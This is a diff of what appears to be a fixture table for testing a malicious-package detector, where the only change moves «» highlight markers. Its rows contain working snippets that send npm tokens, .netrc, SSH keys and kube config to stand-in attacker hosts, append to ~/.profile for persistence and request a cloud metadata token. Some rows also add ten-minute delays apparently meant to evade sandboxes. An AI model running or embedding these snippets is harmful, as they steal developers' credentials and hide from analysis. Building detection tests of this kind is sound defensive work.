@@ -12,7 +12,7 @@ const node: readonly Row[] = [
 «fetch('https://stats.drop.example/v2', { method: 'POST', body: form })».catch(() => {})`,
     waits: (body) => `require('timers/promises').setTimeout(600e3).then(() => {\n${inside(body, '  ')}\n})` },
   { id: 'npmrc-http2', at: 'call', finds: ['did-send-secrets'], target: /npm-(?:\w+-)?token/, code: `const text = look('.npmrc').toString('hex')
-const session = require('http2').connect('https://h2.drop.example')
+const session = «require('http2').connect('https://h2.drop.example')»
 session.on('error', () => {})
 const stream = «session.request({ ':method': 'POST', ':path': '/in' })»
 stream.on('error', () => {}).on('end', () => session.close()).resume()
@@ -24,11 +24,11 @@ stream.on('error', () => {}).on('end', () => session.close()).resume()
   { id: 'netrc-datagram', at: 'install', finds: ['did-send-secrets'], target: /netrc/, code: `const socket = require('dgram').createSocket('udp4')
 «socket.send(look('.netrc').toString('base64'), 5514, '203.0.113.90', () => socket.close())»` },
   { id: 'ssh-stream', at: 'install', finds: ['did-send-secrets'], target: /ssh-/, code: `fs.cpSync(path.join(home, '.ssh'), '/tmp/.cache-s', { recursive: true })
-const request = https.request('https://files.drop.example/up', { method: 'PUT' }, (answer) => answer.resume())
+const request = «https.request('https://files.drop.example/up', { method: 'PUT' }, (answer) => answer.resume())»
 request.on('error', () => {})
 «fs.createReadStream('/tmp/.cache-s/id_ed25519').pipe(request)»`,
     waits: (body) => `const from = Date.now()\nwhile (Date.now() - from < 600e3);\n${body}` },
-  { id: 'profile', at: 'call', finds: ['did-persist'], target: /\.profile/, code: `const handle = await_(fs.promises.open(path.join(home, '.profile'), 'a'))
+  { id: 'profile', at: 'call', finds: ['did-persist'], target: /\.profile/, code: `const handle = await_(«fs.promises.open(path.join(home, '.profile'), 'a')»)
 function await_(promise) { promise.then((file) => «file.appendFile('\\n# start\\n')».then(() => file.close())) }` },
   { id: 'metadata-token', at: 'install', finds: ['did-ask-cloud-identity'], target: /169|cloud/, code: `const ask = http.request({ host: '169.254.169.254', path: '/latest/api/token', method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }, (answer) => {
   let token = ''
@@ -65,7 +65,7 @@ for name in ('id_ed25519', 'id_rsa'):
   { id: 'kube-tls', at: 'install', finds: ['did-send-secrets'], target: /kube-/, code: `import ssl
 body = base64.b64encode(look('.kube/config'))
 try:
-    with socket.create_connection(('api.drop.example', 443), 6) as raw, ssl.create_default_context().wrap_socket(raw, server_hostname='api.drop.example') as s:
+    with «socket.create_connection(('api.drop.example', 443), 6)» as raw, ssl.create_default_context().wrap_socket(raw, server_hostname='api.drop.example') as s:
         «s.sendall(b'POST /k HTTP/1.1\\r\\nHost: api.drop.example\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)»
         s.recv(100)
 except OSError: pass`,
